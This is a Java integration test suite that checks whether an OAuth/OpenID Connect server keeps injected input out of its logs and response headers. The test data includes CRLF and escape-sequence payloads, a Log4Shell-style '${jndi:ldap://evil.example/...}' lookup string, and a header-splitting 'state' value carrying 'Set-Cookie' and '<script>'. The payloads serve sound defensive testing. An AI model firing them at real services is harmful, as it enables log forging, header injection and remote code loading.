package org.lintel.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.lintel.flow.App.QUICK;

import java.util.HashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import org.lintel.flow.Answer;
import org.lintel.flow.App;
import org.lintel.flow.Browser;
import org.lintel.flow.FilledForm;
import org.lintel.flow.Form;
import org.lintel.flow.Lintel;
import org.lintel.flow.Patience;
import org.lintel.flow.Visit;
import org.lintel.flow.Wire;
import org.lintel.test.Server;

/** Nothing that was sent begins a line of its own, neither in the log nor among the headers of an answer (CWE-93, CWE-117). */
@Tag("http")
@Tag("portability")
class LogInjectionIT {

    private static final String ESCAPE = "\u001b[2J";
    private static final List<String> PAYLOADS = List.of("x\r\nFORGED line", "x\nFORGED line", "x\rFORGED line", "x\u0085FORGED line",
            "x\u2028FORGED line", "x" + ESCAPE + "FORGED line", "x\u009b2JFORGED line", "x\u0000\b\u007fFORGED line",
            "${jndi:ldap://evil.example/FORGED}", "{0}{1}%s%nFORGED", "x\u202eFORGED");

    private final Server server = Lintel.server();
    private final Browser browser = Lintel.browser();

    @ParameterizedTest
    @ValueSource(strings = {"client_id", "redirect_uri", "response_type", "response_mode", "scope", "state", "nonce", "prompt", "max_age",
            "login_hint", "ui_locales", "acr_values", "id_token_hint", "code_challenge", "code_challenge_method", "unheard_of"})
    void s19_noParameterOfARequestReachesTheLogRaw(String name) {
        for (String payload : PAYLOADS) {
            browser.open(QUICK.with(name, payload).authorizeAddress());
            browser.post("/connect/authorize", QUICK.with("client_id", "unknown").with(name, payload).parameters()).isErrorPage();
        }
        theLogIsClean();
    }

    @ParameterizedTest
    @ValueSource(strings = {"grant_type", "code", "redirect_uri", "code_verifier", "client_id", "client_secret", "scope", "unheard_of"})
    void s19_noParameterOfATokenRequestReachesTheLogRaw(String name) {
        for (String payload : PAYLOADS) {
            var form = new HashMap<>(QUICK.redemption("unknown"));
            form.put("client_id", name.equals("client_secret") ? "unknown" : "spa");
            form.put(name, payload);
            assertThat(Answer.post(server.at("/connect/token"), form).status()).isBetween(400, 499);
            assertThat(Answer.post(server.at("/connect/token"), Map.of("grant_type", "x"), "Authorization", App.basic(
                    Form.encode(payload), "x")).status()).isEqualTo(401);
        }
        theLogIsClean();
    }

    @Test
    void s19_nothingThatIsTypedReachesTheLogRaw() {
        for (String payload : PAYLOADS) {
            FilledForm form = Lintel.browser().authorize(QUICK).filled("#login", Map.of());
            for (FilledForm.Field field : form.fields()) {
                form.with(field.name(), payload).sentBy(browser);
            }
            Lintel.browser().authorize(QUICK).signIn(payload, payload);
            assertThat(browser.authorize(QUICK.with("prompt", "login")).signIn("alice").code()).as("not all that is tried fails")
                    .isNotEmpty();
        }
        theLogIsClean();
    }

    @Test
    void s19_noAddressReachesTheLogRaw() {
        for (String payload : PAYLOADS) {
            String encoded = Form.encode(payload).replace("+", "%20");
            for (String address : List.of("/connect/authorize/" + encoded, "/connect/" + encoded, "/connect/token/" + encoded,
                    "/" + encoded,
                    "/login?request=" + encoded, "/login?" + encoded + "=x", "/consent?request=" + encoded, "/.well-known/" + encoded,
                    "/connect/userinfo?access_token=" + encoded, "/login;" + encoded)) {
                assertThat(browser.open(address).status()).isLessThan(500);
            }
        }
        theLogIsClean();
    }

    /** Bytes that no client library sends; whoever refuses them must not print them either. */
    @ParameterizedTest
    @ValueSource(strings = {"User-Agent", "Accept-Language", "Accept", "Content-Type", "Origin", "Referer", "Authorization",
            "X-Forwarded-For",
            "X-Forwarded-Proto", "Sec-Fetch-Site", "Cookie", "X-Unheard-Of", "Access-Control-Request-Method"})
    void s19_noHeaderReachesTheLogRaw(String name) {
        for (String value : List.of("x" + ESCAPE + "FORGED", "x\rFORGED", "x\r\n FORGED folded", "${jndi:ldap://evil.example/FORGED}",
                "lintel=\"x" + ESCAPE + "FORGED\"", "Basic " + ESCAPE + "FORGED", "Bearer " + ESCAPE + "FORGED", "x\u0085FORGED")) {
            String header = name + ": " + value + "\r\n";
            Wire.get(server, "/connect/authorize?client_id=unknown", header);
            Wire.get(server, "/connect/userinfo", header);
            Wire.get(server, "/login", header);
            Wire.send(server, "POST /connect/token", header, "grant_type=x");
            Wire.send(server, "POST /login", header, "username=x");
            Wire.send(server, "OPTIONS /connect/token", header, "");
        }
        theLogIsClean();
    }

    @Test
    void s19_norDoesTheRequestLine() {
        for (String line : List.of("GET /connect/authorize?client_id=" + ESCAPE + "FORGED", "GET /" + ESCAPE + "FORGED",
                ESCAPE + "FORGED /login", "GET /login?request=x\rFORGED", "FORGED" + ESCAPE,
                "GET http://evil.example/" + ESCAPE + "FORGED")) {
            Wire.send(server, line, "", "");
        }
        theLogIsClean();
    }

    @Test
    void s19_aLineBreakInStateStaysInTheAddress() {
        String state = "x\r\nSet-Cookie: forged=1\r\n\r\n<script>";
        for (App app : List.of(QUICK, QUICK.with("scope", "unknown"), App.JS)) {
            Visit answer = Lintel.browser().authorize(app.with("state", state));
            Visit end = answer.answer().header("Location") == null ? answer.signIn("alice") : answer;
            assertThat(end.location()).contains("%0D%0ASet-Cookie%3A").doesNotContain("\r").doesNotContain("\n");
            assertThat(end.answer().header("Set-Cookie")).isNull();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"/connect/authorize/x%0d%0aForged:%20yes", "/login?request=x%0d%0aForged:%20yes",
            "/connect/authorize?client_id=x%0d%0aForged:%20yes", "/%0d%0aForged:%20yes", "/connect/token%0d%0aForged:%20yes"})
    void s19_noAddressBecomesAHeader(String address) {
        assertThat(Wire.get(server, address, "Origin: x%0d%0aForged: yes\r\n").head().toLowerCase()).doesNotContain("forged");
    }

    /** Waits until a refusal that came last stands in the log, under the number that the page told. */
    private void theLogIsClean() {
        String number = browser.authorize(QUICK.with("client_id", "the-last-one")).isErrorPage().document().getElementById("number").text();
        String log = Patience.until(server::log, text -> text.contains(number));
        assertThat(log.lines().filter(line -> line.contains(number))).singleElement().asString()
                .contains("/connect/authorize", "unauthorized_client", "client_id=the-last-one");
        assertThat(log.lines().filter(line -> line.startsWith("FORGED") || line.startsWith(" FORGED"))).isEmpty();
        assertThat(log.lines().filter(line -> line.contains("FORGED"))).allSatisfy(line -> assertThat(line).doesNotContain(ESCAPE)
                .doesNotContain("${jndi").doesNotContain("\u0085").doesNotContain("\u2028").doesNotContain("\u009b")
                .doesNotContain("\u202e")
                .doesNotContain("\u0000").doesNotContain("\b"));
    }
}
